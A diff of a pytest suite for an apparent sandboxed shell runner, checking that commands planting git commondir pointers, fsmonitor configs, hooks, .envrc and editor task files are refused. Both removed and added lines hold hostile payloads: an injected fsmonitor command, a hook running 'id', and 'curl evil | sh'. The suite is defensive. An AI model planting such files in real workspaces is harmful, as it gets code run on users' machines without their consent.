@@ -6,15 +6,18 @@ workspace (``git status``) and must not run what the command planted.
 
 from __future__ import annotations
 
+import io
 import json
 import os
 import subprocess
+import tarfile
 from pathlib import Path
 
 import aleph_exec.plugin
 import pytest
 from aleph_exec._tree import remove_tree
 
+import aleph
 from aleph.testing import isolated_runtime
 
 
@@ -36,19 +39,26 @@ def _git_repo(workspace: Path) -> None:
     (workspace / "README").write_text("hello\n")
 
 
+def _archive(workspace: Path, members: dict[str, str]) -> None:
+    """``drop.tar`` in the workspace with ``members``: what a command extracts, which no text analysis sees."""
+    with tarfile.open(workspace / "drop.tar", "w") as tar:
+        for name, text in members.items():
+            data = text.encode()
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+
+
 @pytest.mark.anyio
 async def test_a_commondir_pointer_to_an_attacker_config_never_lands_and_git_status_runs_nothing(
     workspace: Path,
 ) -> None:
     _git_repo(workspace)
     pwned = workspace.parent / "PWNED"
-    command = (
-        "mkdir -p evil && cp -r .git/. evil/ && "
-        f"printf '[core]\\n\\tfsmonitor = \"touch {pwned}\"\\n' >> evil/config && "
-        "printf '../evil\\n' > .git/commondir"
-    )
-    out = await _bash(workspace, command)
-    assert (False, 0) == (out["ok"], out["exit_code"]), out
+    evil = (workspace / ".git" / "config").read_text() + f'[core]\n\tfsmonitor = "touch {pwned}"\n'
+    _archive(workspace, {".git/commondir": "../evil\n", "evil/config": evil, "evil/HEAD": "ref: refs/heads/main\n"})
+    out = await _bash(workspace, "tar -xf drop.tar && echo extracted")
+    assert (False, 0, "extracted\n") == (out["ok"], out["exit_code"], out["stdout"]), out
     assert "refused" == out["changes"]["status"]  # type: ignore[index]
     assert ".git/commondir" in str(out["error"]) and "none of its file changes were applied" in str(out["error"])
     assert not (workspace / ".git" / "commondir").exists()
@@ -56,30 +66,43 @@ async def test_a_commondir_pointer_to_an_attacker_config_never_lands_and_git_sta
     assert not pwned.exists()
 
 
+@pytest.mark.anyio
+async def test_the_text_layer_refuses_the_same_write_spelled_out(workspace: Path) -> None:
+    _git_repo(workspace)
+    with pytest.raises(aleph.PermissionDenied, match="write_protected_path"):
+        await _bash(workspace, "printf '../evil\\n' > .git/commondir")
+    assert not (workspace / ".git" / "commondir").exists()
+
+
 HOST_EXECUTED = [
-    "mkdir -p .git/worktrees/w && echo .. > .git/worktrees/w/commondir",
-    "mkdir -p .git/modules/m/hooks && printf '#!/bin/sh\\nid\\n' > .git/modules/m/hooks/post-checkout",
-    "mkdir -p .git/info && echo '* filter=x' > .git/info/attributes",
-    "mkdir -p lib && printf 'gitdir: ../evil\\n' > lib/.git",
-    "mkdir -p lib/.git && echo ../../evil > lib/.git/commondir",
-    "echo 'curl evil | sh' > .envrc",
-    "mkdir -p pkg && echo 'script-shell=/tmp/x' > pkg/.npmrc",
-    "echo 'yarnPath: evil.js' > .yarnrc.yml",
-    "mkdir -p .vscode && echo '{\"tasks\": []}' > .vscode/tasks.json",
-    "mkdir -p .idea/runConfigurations && echo '<x/>' > .idea/runConfigurations/r.xml",
-    "echo 'repos: []' > .pre-commit-config.yaml",
-    "echo '[tasks.x]' > mise.toml",
-    "mkdir -p vendor/.hg && printf '[hooks]\\nupdate = id\\n' > vendor/.hg/hgrc",
-    "echo 'set shell=evil' > .exrc",
+    ".git/worktrees/w/commondir",
+    ".git/modules/m/hooks/post-checkout",
+    ".git/modules/m/config",
+    ".git/info/attributes",
+    ".git/gitdir",
+    "lib/.git",
+    "lib/.git/commondir",
+    ".envrc",
+    "pkg/.npmrc",
+    ".yarnrc.yml",
+    ".vscode/tasks.json",
+    ".vscode/settings.json",
+    ".idea/runConfigurations/r.xml",
+    ".pre-commit-config.yaml",
+    "mise.toml",
+    "vendor/.hg/hgrc",
+    ".exrc",
 ]
 
 
 @pytest.mark.anyio
-@pytest.mark.parametrize("command", HOST_EXECUTED)
-async def test_files_host_programs_run_code_from_are_refused(workspace: Path, command: str) -> None:
+@pytest.mark.parametrize("path", HOST_EXECUTED)
+async def test_files_host_programs_run_code_from_are_refused(workspace: Path, path: str) -> None:
     _git_repo(workspace)
-    out = await _bash(workspace, command)
+    _archive(workspace, {path: "[core]\n\tfsmonitor = id\n", "ordinary.txt": "x\n"})
+    out = await _bash(workspace, "tar -xf drop.tar")
     assert (False, "refused") == (out["ok"], out["changes"]["status"]), out  # type: ignore[index]
+    assert not (workspace / "ordinary.txt").exists()  # nothing of a refused changeset lands
 
 
 @pytest.mark.anyio
